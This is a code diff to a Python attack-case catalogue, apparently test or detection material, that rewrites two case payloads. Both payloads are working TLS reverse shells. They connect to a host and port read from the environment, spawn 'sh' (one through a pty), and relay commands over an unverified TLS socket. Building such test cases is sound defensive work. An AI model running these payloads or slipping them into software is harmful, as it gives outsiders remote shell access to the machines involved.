@@ -3,8 +3,8 @@
 from __future__ import annotations
 
 from attacks.cases.base import Case
-from live.programs import Language
 from live.channels import Transport
+from live.programs import Language
 from live.shells import Speech
 
 _CALL = "import os, socket\nnet = socket.create_connection((os.environ['HOST'], int(os.environ['PORT'])))\n"
@@ -152,17 +152,15 @@ asyncio.run(main())
         transport=Transport.TLS,
         text=_CALL
         + """
-import ssl, subprocess, threading
+import select, ssl, subprocess
 private = ssl._create_unverified_context().wrap_socket(net)
 shell = subprocess.Popen("sh", stdin=-1, stdout=-1, stderr=-2)
-
-def up():
-    while answer := os.read(shell.stdout.fileno(), 4096):
-        private.sendall(answer)
-
-threading.Thread(target=up).start()
-while order := private.recv(4096):
-    os.write(shell.stdin.fileno(), order)
+while shell.poll() is None:
+    for side in select.select([private, shell.stdout], [], [], 1)[0]:
+        if side is private:
+            os.write(shell.stdin.fileno(), private.recv(16384))
+        else:
+            private.sendall(os.read(side.fileno(), 4096))
 """,
     ),
     Case(
@@ -171,17 +169,17 @@ while order := private.recv(4096):
         transport=Transport.TLS,
         text=_CALL
         + """
-import pty, ssl, threading
+import pty, selectors, ssl
 private = ssl._create_unverified_context().wrap_socket(net)
 pid, master = pty.fork()
 if not pid:
     os.execlp("sh", "sh", "-i")
-def up():
-    while True:
-        private.sendall(os.read(master, 4096))
-threading.Thread(target=up, daemon=True).start()
-while order := private.recv(4096):
-    os.write(master, order)
+ready = selectors.DefaultSelector()
+ready.register(private, selectors.EVENT_READ, lambda: os.write(master, private.recv(16384)))
+ready.register(master, selectors.EVENT_READ, lambda: private.send(os.read(master, 1024)))
+while True:
+    for key, _ in ready.select():
+        key.data()
 """,
     ),
     Case(
